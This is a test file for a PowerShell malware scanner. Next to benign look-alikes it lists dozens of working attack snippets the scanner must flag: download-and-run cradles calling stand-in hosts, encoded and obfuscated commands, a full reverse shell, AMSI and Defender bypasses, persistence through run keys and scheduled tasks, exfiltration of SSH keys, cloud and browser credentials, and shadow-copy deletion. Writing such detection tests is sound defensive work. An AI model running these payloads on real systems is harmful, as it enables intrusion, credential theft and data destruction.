import { describe, expect, it } from 'vitest';
import { scanPowershell } from '../../src/scan/powershell/scan.ts';
import { expectBounded, hostileTexts, mutated } from './hostile.ts';
import { alarmRules, alarms, base64 } from './verdicts.ts';

const DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a.ps1')";
const ENCODED = base64(DOWNLOAD, 'utf16le');

/** Name, code, and a finding it must give. */
const MALICIOUS: readonly (readonly [string, string, string])[] = [
  [
    'each file of a directory',
    "gci ~/.aws -Recurse | % { irm -Method Post -Uri 'https://c.example/in' -InFile $_.FullName }",
    'critical credential-exfiltration',
  ],
  ['a download that is run', "iex (iwr -UseBasicParsing 'http://c.example/x.ps1').Content", 'critical fetch-and-run'],
  ['a download over https', 'irm https://c.example/x.ps1 | iex', 'warn fetch-and-run'],
  ['a hidden window', 'powershell -w hidden -c "irm https://c.example/x.ps1 | iex"', 'critical fetch-and-run'],
  ['WebClient', DOWNLOAD, 'critical fetch-and-run'],
  [
    'a raw file on a paste site',
    "Invoke-Expression (Invoke-RestMethod 'https://pastebin.com/raw/abc')",
    'critical fetch-and-run',
  ],
  ['an encoded command', `powershell.exe -nop -w hidden -e ${ENCODED}`, 'critical obfuscated-code'],
  ['the whole name of the option', `pwsh -NoProfile -EncodedCommand ${ENCODED}`, 'critical fetch-and-run'],
  [
    'base64 that is decoded and run',
    `$x = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${ENCODED}'))\niex $x`,
    'critical obfuscated-code',
  ],
  [
    'an unquoted command line',
    'powershell -ExecutionPolicy Bypass -c irm http://203.0.113.4/install.ps1 | iex',
    'critical fetch-and-run',
  ],
  [
    'a command name in pieces',
    "& ('i'+'ex') (nEw-oBjEct ('Net.Web'+'Client')).DownloadString('http://203.0.113.4/a')",
    'critical obfuscated-code',
  ],
  [
    'back-quotes in names',
    'I`E`X (New-Object Net.WebClient)."Down`loadString"(\'http://203.0.113.4/a\')',
    'critical fetch-and-run',
  ],
  ['a command name by format', "& ('{1}{0}' -f 'x','ie') 'whoami'", 'critical obfuscated-code'],
  ['a command name from a path', "&( $env:ComSpec[4,15,25]-Join'') 'whoami'", 'critical obfuscated-code'],
  ['a command name from $PSHOME', ".($pshome[4]+$pshome[30]+'x') 'whoami'", 'critical obfuscated-code'],
  ['character codes', 'iex (-join ([char[]](119,104,111,97,109,105)))', 'critical obfuscated-code'],
  [
    'replaced letters',
    "$c = 'QQR-Expression'.Replace('QQR','Invoke'); & $c (iwr http://203.0.113.4/x)",
    'critical fetch-and-run',
  ],
  [
    'a script block of a download',
    '$s = (iwr http://203.0.113.4/x).Content\n& ([scriptblock]::Create($s))',
    'critical fetch-and-run',
  ],
  [
    'an assembly in memory',
    "$b = (New-Object Net.WebClient).DownloadData('http://203.0.113.4/a.dll')\n[Reflection.Assembly]::Load($b)",
    'critical obfuscated-code',
  ],
  [
    'an assembly in base64',
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAAEAAAA'))",
    'critical obfuscated-code',
  ],
  [
    'a downloaded program',
    '$u=\'http://203.0.113.4/a.exe\'\n$p="$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile($u,$p)\nStart-Process $p',
    'critical download-and-execute',
  ],
  [
    'a download from a chat',
    'Invoke-WebRequest -Uri https://cdn.discordapp.com/x.exe -OutFile setup.exe; Start-Process setup.exe -Wait',
    'critical download-and-execute',
  ],
  [
    'certutil',
    'certutil -urlcache -split -f http://203.0.113.4/a.exe a.exe; .\\a.exe',
    'critical download-and-execute',
  ],
  ['mshta', 'mshta http://203.0.113.4/x.hta', 'critical fetch-and-run'],
  ['cmd in between', 'cmd /c "powershell -c iex(iwr http://203.0.113.4/x)"', 'critical fetch-and-run'],
  [
    'a function in between',
    "function Get-It($u){ return (iwr $u).Content }\n$c = Get-It 'http://203.0.113.4/x'\nInvoke-Expression $c",
    'critical fetch-and-run',
  ],
  ['an alias of its own', 'Set-Alias go Invoke-Expression\ngo (iwr http://203.0.113.4/x)', 'critical fetch-and-run'],
  [
    'a shell on a connection',
    "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.4',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
    'critical reverse-shell',
  ],
  ['the virus scanner off', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'critical protection-off'],
  ['an exclusion', "Add-MpPreference -ExclusionPath 'C:\\Users'", 'critical protection-off'],
  [
    'AMSI off',
    "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
    'critical protection-off',
  ],
  ['unsigned scripts for good', 'Set-ExecutionPolicy Unrestricted -Scope LocalMachine -Force', 'warn protection-off'],
  [
    'a run key',
    "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'x' -Value 'a.exe'",
    'critical persistence',
  ],
  [
    'a run key by reg',
    'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x /d a.exe /f',
    'critical persistence',
  ],
  [
    'the start-up folder',
    'Copy-Item a.exe "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"',
    'critical persistence',
  ],
  [
    'a task that downloads',
    "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-nop -c \"iex (iwr http://203.0.113.5/t).Content\"'\nRegister-ScheduledTask -TaskName 'Update' -Action $a",
    'critical persistence',
  ],
  [
    'a task by schtasks',
    'schtasks /create /tn up /tr "powershell -w hidden -enc AAA" /sc minute',
    'critical persistence',
  ],
  [
    'the environment sent away',
    '$e = Get-ChildItem env: | ConvertTo-Json; Invoke-RestMethod -Uri https://c.example/x -Method Post -Body $e',
    'critical env-harvesting',
  ],
  [
    'an SSH key sent away',
    '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\nInvoke-WebRequest -Uri \'https://c.example\' -Method POST -Body @{k=$k}',
    'critical credential-exfiltration',
  ],
  [
    'browser passwords in an archive',
    'Compress-Archive -Path "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" -DestinationPath "$env:TEMP\\l.zip"\nInvoke-RestMethod -Uri https://c.example -Method Post -InFile "$env:TEMP\\l.zip"',
    'critical credential-exfiltration',
  ],
  [
    'passwords of Windows',
    'rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
    'critical credential-exfiltration',
  ],
  ['the registry of passwords', 'reg save HKLM\\SAM C:\\temp\\sam', 'critical credential-exfiltration'],
  ['the backups deleted', 'vssadmin delete shadows /all /quiet', 'critical destructive-delete'],
  ['the user directory deleted', 'Remove-Item -Recurse -Force $env:USERPROFILE', 'critical destructive-delete'],
  [
    'machine code',
    'Add-Type -TypeDefinition \'[DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);\'',
    'critical process-injection',
  ],
  ['a start-up file', "Add-Content $PROFILE 'iex (iwr http://203.0.113.1/x)'", 'warn persistence'],
  [
    'a shortcut at start-up',
    '$w = New-Object -ComObject WScript.Shell\n$s = $w.CreateShortcut("$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk")',
    'critical persistence',
  ],
  [
    'a process through WMI',
    "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -c iex(iwr http://203.0.113.1/x)'",
    'critical fetch-and-run',
  ],
  [
    'curl of Windows',
    'curl.exe -F file=@$env:USERPROFILE\\.ssh\\id_rsa https://c.example/u',
    'critical credential-exfiltration',
  ],
  ['a service that protects', 'Stop-Service WinDefend -Force', 'critical protection-off'],
  [
    'codes in a loop',
    "iex ((('69 64').Split(' ') | % {[char][convert]::toint16($_,16)}) -join '')",
    'critical obfuscated-code',
  ],
  [
    'names that carry data',
    '$d=[Convert]::ToBase64String([IO.File]::ReadAllBytes("$env:USERPROFILE\\.ssh\\id_rsa"));Resolve-DnsName "$($d.Substring(0,30)).c.example"',
    'critical credential-exfiltration',
  ],
  [
    'a class in the place of another',
    "New-Item -Path 'HKCU:\\Software\\Classes\\CLSID\\{1}\\InprocServer32' -Value a.dll -Force",
    'critical persistence',
  ],
  ['an installer from an address', 'msiexec /i http://203.0.113.1/a.msi /qn', 'critical fetch-and-run'],
  [
    'commands from a server in a loop',
    'while(1){$c=irm https://c.example/t;$o=iex $c|out-string;irm https://c.example/r -Method Post -Body $o}',
    'warn fetch-and-run',
  ],
  [
    'a port that takes commands',
    '$l = [System.Net.Sockets.TcpListener]9001; $l.Start()\n$c = $l.AcceptTcpClient(); $r = New-Object IO.StreamReader($c.GetStream())\nwhile ($null -ne ($line = $r.ReadLine())) { Invoke-Expression $line }',
    'critical reverse-shell',
  ],
];

/** Name and code of what looks alike and is not. */
const BENIGN: readonly (readonly [string, string])[] = [
  [
    'each file of a build',
    'Get-ChildItem ./dist -File | ForEach-Object { Invoke-RestMethod -Method Put -Uri "https://files.example/$($_.Name)" -InFile $_.FullName }',
  ],
  [
    'comments and texts',
    '# iex (iwr http://203.0.113.4)\n<# irm http://203.0.113.4 | iex #>\nWrite-Host "do not run iex (iwr http://203.0.113.4)"',
  ],
  ['a well-known installer', 'irm https://astral.sh/uv/install.ps1 | iex'],
  [
    'a well-known installer by its page',
    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
  ],
  [
    'its own key',
    '$h = @{ Authorization = "Bearer $env:ACME_API_KEY" }\nInvoke-RestMethod -Uri https://api.acme.com/v1 -Headers $h',
  ],
  [
    'a release of a code host',
    'Invoke-WebRequest -Uri https://github.com/a/b/releases/download/v1/x.exe -OutFile setup.exe; Start-Process .\\setup.exe',
  ],
  [
    'data from an API',
    "$r = Invoke-RestMethod 'https://api.example.com/v1/weather?q=Bern'\n$r.temperature | Out-File weather.txt",
  ],
  [
    'its parameters',
    'param([string]$Name, [switch]$Force)\nif (-not (Get-Command node -ErrorAction SilentlyContinue)) { winget install OpenJS.NodeJS }\nnpm install\nnpm run build',
  ],
  ['the execution policy of this process', 'Set-ExecutionPolicy -Scope Process Bypass -Force'],
  ['its own build directory', 'Remove-Item -Recurse -Force ./dist\nGet-ChildItem -Recurse *.log | Remove-Item'],
  ['a program of the system', 'Start-Process notepad.exe README.md\nStart-Process "https://example.com/docs"'],
  [
    'a task for its own script',
    "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-NoProfile -File `\"$(Join-Path $PSScriptRoot 'a.ps1')`\"\"\nRegister-ScheduledTask -TaskName 'Digest' -Action $a",
  ],
  ['base64 of a picture', '[IO.File]::WriteAllBytes("a.png", [Convert]::FromBase64String($json.image))'],
  [
    'an encoded picture sent',
    '$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes("chart.png"))\nInvoke-RestMethod https://api.example.com/v1/images -Method Post -Body (@{ image = $b } | ConvertTo-Json)',
  ],
  ['a calculation', '$x = 3 + 4\n$list = 1..10 | ForEach-Object { $_ * 2 }\n"{0:N2}" -f 3.14159'],
  ['a line end as a code', '$crlf = [char]13 + [char]10\nSet-Content a.txt ("a" + $crlf + "b")'],
  [
    'a switch statement',
    "switch ($args[0]) {\n  'start' { & \"$PSScriptRoot\\start.ps1\" }\n  default { Write-Output 'usage: x start' }\n}",
  ],
  ['a profile that is only read', 'Get-Content $PROFILE | Select-String alias'],
  ['the registry read', "Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'"],
  ['the clipboard shown', 'Get-Clipboard | Out-String | Write-Output'],
  [
    'a service asked',
    'Get-Service sshd | Select-Object Status\nGet-Process | Sort-Object CPU -Descending | Select-Object -First 5',
  ],
  [
    'a scanner that names what it looks for',
    "$bad = @('IEX', 'DownloadString', 'FromBase64String', '-EncodedCommand', 'amsiInitFailed')\nforeach ($b in $bad) { Select-String -Path *.ps1 -Pattern $b }",
  ],
  [
    'a shim of a package manager',
    '$basedir=Split-Path $MyInvocation.MyCommand.Definition -Parent\n$exe=""\nif ($PSVersionTable.PSVersion -lt "6.0" -or $IsWindows) { $exe=".exe" }\n& "$basedir/node$exe" "$basedir/node_modules/x/bin.js" $args\nexit $LASTEXITCODE',
  ],
  [
    'mail with a secret store',
    '$cred = Get-Credential\nSend-MailMessage -To a@example.com -From b@example.com -Subject x -SmtpServer smtp.example.com -Credential $cred',
  ],
  [
    'numbers in a loop',
    "(1..5 | % { $_ * 2 }) -join ','\n('a b'.Split(' ') | ForEach-Object { $_.ToUpper() }) -join ' '",
  ],
  ['a service of its own', 'Stop-Service MyApp; Set-Service MyApp -StartupType Manual'],
  [
    'a key of its own in the registry',
    "New-Item -Path 'HKCU:\\Software\\Acme' -Force\nNew-ItemProperty -Path 'HKCU:\\Software\\Acme' -Name Theme -Value dark",
  ],
  ['a name that is looked up', 'Resolve-DnsName api.example.com'],
  [
    'a shortcut on the desktop',
    '$w = New-Object -ComObject WScript.Shell\n$s = $w.CreateShortcut("$env:USERPROFILE\\Desktop\\Acme.lnk")\n$s.TargetPath = "$PSScriptRoot\\acme.exe"\n$s.Save()',
  ],
];

describe('scanPowershell', () => {
  it.each(MALICIOUS)('finds: %s', (_name, code, expected) => {
    expect(alarmRules(scanPowershell('tool.ps1', code))).toContain(expected);
  });

  it.each(BENIGN)('leaves alone: %s', (_name, code) => {
    expect(alarms(scanPowershell('tool.ps1', code))).toEqual([]);
  });

  it('says what an encoded command holds', () => {
    const found = scanPowershell('tool.ps1', `powershell -enc ${ENCODED}`);
    expect(found.find((f) => f.rule === 'obfuscated-code')?.message).toContain('DownloadString');
  });

  it('is bounded on hostile texts', () => {
    expectBounded(
      hostileTexts([
        'iex (',
        '(gci) | ',
        '& {',
        '@(',
        '@{a=',
        '$a = ',
        '$a += "x"\n',
        '-e ',
        '"$(',
        "@'\n",
        'function f { f }\nf\n',
        '$x.a()',
        '[char]65+',
        "'a','b' -join ",
      ]),
      (t) => scanPowershell('a.ps1', t),
    );
  });

  it('never fails on mutated texts', () => {
    expectBounded(
      mutated(
        [...MALICIOUS, ...BENIGN].map((s) => s[1]),
        600,
        11,
      ),
      (t) => scanPowershell('a.ps1', t),
    );
  });
});
